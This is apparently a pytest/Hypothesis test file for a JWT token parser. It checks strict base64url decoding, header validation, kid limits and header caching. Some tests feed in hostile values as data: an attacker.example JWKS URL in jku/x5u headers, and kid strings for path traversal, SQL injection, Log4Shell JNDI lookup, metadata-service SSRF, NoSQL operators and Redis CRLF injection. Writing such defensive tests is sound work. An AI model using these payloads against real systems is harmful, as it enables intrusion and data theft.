"""What is taken for a token, and above all what is not."""

import base64
import json
import string
from contextlib import suppress

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from keycache.core import token as token_module
from keycache.core.token import Header, UnverifiedToken, decode_base64url, parse_token
from keycache.errors import Reason, TokenError
from tests.keycache.core.forge import ABSENT, b64, b64_json, parsed, token

ALPHABET = string.ascii_letters + string.digits + "-_"
HEADER = b64_json({"alg": "ES256", "kid": "a"})
PAYLOAD = b64_json({"iss": "https://issuer.example"})


def refusal(text: str, max_bytes: int = 8192, max_kid_chars: int = 128) -> Reason:
    with pytest.raises(TokenError) as refused:
        parse_token(text, max_bytes, max_kid_chars)
    return refused.value.reason


# Anything at all


@given(st.text() | st.text(ALPHABET + "."))
@example("..")
@example("\udcff.e30.")
def test_text_is_a_token_or_a_token_error(text: str) -> None:
    with suppress(TokenError):
        assert isinstance(parsed(text), UnverifiedToken)


SEGMENTS = st.binary() | st.dictionaries(
    st.sampled_from(["alg", "kid", "typ", "crit", "iss", "exp", "x"]),
    st.none() | st.booleans() | st.integers() | st.text() | st.lists(st.text()) | st.floats(),
).map(lambda members: json.dumps(members).encode())


@given(SEGMENTS, SEGMENTS, st.binary())
def test_segments_are_a_token_or_a_token_error(
    header: bytes, payload: bytes, signature: bytes
) -> None:
    with suppress(TokenError):
        assert signature == parsed(f"{b64(header)}.{b64(payload)}.{b64(signature)}").signature


# base64url


@given(st.binary())
def test_every_value_has_a_spelling(data: bytes) -> None:
    assert data == decode_base64url(b64(data).encode())


@given(st.text(ALPHABET + "=+/ \n", max_size=6) | st.binary(max_size=6))
def test_every_value_has_only_one_spelling(segment: str | bytes) -> None:
    octets = segment.encode() if isinstance(segment, str) else segment
    try:
        value = decode_base64url(octets)
    except ValueError:
        return
    assert octets == b64(value).encode()


@pytest.mark.parametrize(
    "segment",
    [
        *("A", "AAAAA"),  # six bits are no octet
        *("AA==", "AAA=", "AAAA=", "AAAA====", "=", "==", "A=AA"),  # padding
        *("AB", "A_", "AAB", "AA-"),  # bits behind the last octet (RFC 4648 section 3.5)
        *("A+AA", "A/AA"),  # the other alphabet
        *("AA AA", "AAAA\n", "\nAAAA", "AA\r\nAA", "AAAA\t", " ", "AAAA\x00"),
        *("AA.A", "AA!A", "AA%3D", "AA,A", 'A"AA'),
    ],
)
def test_other_spelling_is_refused(segment: str) -> None:
    with pytest.raises(ValueError, match=r".+"):
        decode_base64url(segment.encode())


def test_octet_outside_ascii_is_refused() -> None:
    for octet in range(128, 256):
        with pytest.raises(ValueError, match=r".+"):
            decode_base64url(b"AAA" + bytes([octet]))


@pytest.mark.parametrize("position", [0, 1, 2])
@pytest.mark.parametrize(
    "change", ["{}=", "{}==", " {}", "{}\n", "{}\x00", "{}é", "{}\udcff", "+{}"]
)
def test_every_segment_is_read_strictly(position: int, change: str) -> None:
    segments = [HEADER, PAYLOAD, "c2ln"]
    segments[position] = change.format(segments[position])

    assert Reason.MALFORMED == refusal(".".join(segments))


# Segments and sizes


@pytest.mark.parametrize(
    "text",
    [
        "",
        ".",
        "..",
        "...",
        HEADER,
        f"{HEADER}.{PAYLOAD}",
        f".{PAYLOAD}.c2ln",
        f"{HEADER}..c2ln",
        f"{HEADER}.{PAYLOAD}.c2ln.",
        f".{HEADER}.{PAYLOAD}.c2ln",
        f"{HEADER}.{PAYLOAD}.c2ln.c2ln",
        f"{HEADER}.a.b.c.d",  # the five segments of a JWE (RFC 7516 section 3.1)
        '{"payload": "e30", "signatures": []}',  # the JSON serialisation (RFC 7515 section 7.2)
        f"{HEADER}.{b64_json([1])}.c2ln",
        f"{HEADER}.{b64_json('text')}.c2ln",
        f"{b64_json([])}.{PAYLOAD}.c2ln",
        f"{HEADER}.{b64(token().encode())}.c2ln",  # a token in a token
    ],
)
def test_other_shape_is_malformed(text: str) -> None:
    assert Reason.MALFORMED == refusal(text)


def test_four_thousand_dots_are_malformed() -> None:
    assert Reason.MALFORMED == refusal("." * 4000)


def test_size_is_bounded_on_both_sides() -> None:
    text = token()

    assert parse_token(text, len(text), 128) is not None
    assert Reason.TOO_LARGE == refusal(text, len(text) - 1)


def test_token_too_large_is_not_even_looked_at() -> None:
    assert Reason.TOO_LARGE == refusal("é" * 9000)


def test_signature_may_be_missing_until_it_is_checked() -> None:
    assert b"" == parsed(f"{HEADER}.{PAYLOAD}.").signature


def test_signing_input_is_the_text_as_it_came() -> None:
    header = b64(b'{ "kid":"a","alg":"ES256"}')

    assert f"{header}.{PAYLOAD}".encode() == parsed(f"{header}.{PAYLOAD}.c2ln").signing_input


# Header


def header_of(**members: object) -> Header:
    return parsed(f"{b64_json({'alg': 'ES256', **members})}.{PAYLOAD}.c2ln").header


@pytest.mark.parametrize("alg", [None, 1, True, [], ["ES256"], {"ES256": 1}])
def test_alg_that_is_no_string_is_malformed(alg: object) -> None:
    assert Reason.MALFORMED == refusal(f"{b64_json({'alg': alg})}.{PAYLOAD}.c2ln")


def test_alg_that_is_missing_is_malformed() -> None:
    assert Reason.MALFORMED == refusal(f"{b64_json({'kid': 'a'})}.{PAYLOAD}.c2ln")


@pytest.mark.parametrize("member", ["crit", "b64", "zip", "enc", "cty"])
@pytest.mark.parametrize("value", [None, True, False, "", "JWT", [], ["exp"]])
def test_extension_is_refused_whatever_it_says(member: str, value: object) -> None:
    assert Reason.UNSUPPORTED_HEADER == refusal(token(header={member: value}))


@pytest.mark.parametrize("member", ["jwk", "jku", "x5u", "x5c", "x5t", "kid2", "é", "exp"])
def test_member_that_means_nothing_here_changes_nothing(member: str) -> None:
    with_member = header_of(**{member: "https://attacker.example/jwks.json"})

    assert Header("ES256", None, "") == with_member


@pytest.mark.parametrize("typ", [None, 1, True, [], ["JWT"], {}])
def test_typ_that_is_no_string_is_malformed(typ: object) -> None:
    assert Reason.MALFORMED == refusal(token(header={"typ": typ}))


@pytest.mark.parametrize(
    ("typ", "normal"),
    [
        ("JWT", "jwt"),
        ("at+jwt", "at+jwt"),
        ("application/at+jwt", "at+jwt"),
        ("Application/AT+JWT", "at+jwt"),
        ("application/application/at+jwt", "application/at+jwt"),
        ("text/at+jwt", "text/at+jwt"),
    ],
)
def test_typ_is_compared_as_a_media_type(typ: str, normal: str) -> None:
    assert normal == header_of(typ=typ).typ


# kid


@pytest.mark.parametrize(
    "kid", [None, 1, 1.5, True, [], ["a"], {"a": 1}, "", "\n", "a\x00", "a\r\nSET b", "é", "\u2028"]
)
def test_kid_that_is_no_printable_ascii_is_malformed(kid: object) -> None:
    assert Reason.MALFORMED == refusal(token(header={"kid": kid}))


@pytest.mark.parametrize(
    "kid",
    [
        "a",
        " ",
        "../../../../dev/null",
        "' OR '1'='1",
        "*3 $3 SET",
        "${jndi:ldap://attacker.example}",
        "http://169.254.169.254/",
        "%00",
        "bilbo.baggins@hobbiton.example",
        '{"$gt": ""}',
    ],
)
def test_kid_of_printable_ascii_is_only_a_name(kid: str) -> None:
    assert kid == header_of(kid=kid).kid


def test_kid_may_be_missing_until_a_policy_is_asked() -> None:
    assert parsed(token(header={"kid": ABSENT})).header.kid is None


def test_length_of_kid_is_bounded_on_both_sides() -> None:
    text = token(header={"kid": "k" * 20})

    assert "k" * 20 == parse_token(text, 8192, 20).header.kid
    assert Reason.MALFORMED == refusal(text, 8192, 19)


# The cache of headers


def test_header_is_parsed_once() -> None:
    token_module._parse_header.cache_clear()
    for _ in range(5):
        parsed(token())

    assert (1, 4) == (
        token_module._parse_header.cache_info().misses,
        token_module._parse_header.cache_info().hits,
    )


@pytest.mark.parametrize(
    "header", [b"", b"{", b'{"alg": 1}', b'{"alg": "ES256", "crit": []}', b"\xff"]
)
def test_header_that_is_refused_is_not_remembered(header: bytes) -> None:
    token_module._parse_header.cache_clear()
    reasons = {refusal(f"{b64(header)}.{PAYLOAD}.c2ln") for _ in range(3)}

    assert 1 == len(reasons)
    assert 0 == token_module._parse_header.cache_info().currsize


def test_headers_remembered_are_bounded() -> None:
    for number in range(400):
        header_of(kid=str(number))

    assert 256 == token_module._parse_header.cache_info().currsize


def test_limit_of_kid_is_not_remembered_with_the_header() -> None:
    text = token(header={"kid": "remembered"})

    assert parse_token(text, 8192, 128) is not None
    assert Reason.MALFORMED == refusal(text, 8192, 3)
    assert parse_token(text, 8192, 128) is not None


def test_refusal_repeats_nothing_of_the_token() -> None:
    secret = "s3cr3t-in-a-token"
    for text in (
        f"{b64_json({'alg': 'ES256', 'kid': secret * 20})}.{PAYLOAD}.c2ln",
        f"{b64_json({'alg': 'ES256', 'kid': secret + chr(10)})}.{PAYLOAD}.c2ln",
        f"{HEADER}.{secret}.c2ln",
        f"{HEADER}.{base64.urlsafe_b64encode(secret.encode()).decode()}.c2ln",
    ):
        with pytest.raises(TokenError) as refused:
            parsed(text)
        assert secret not in f"{refused.value} {refused.value.details} {refused.value!r}"
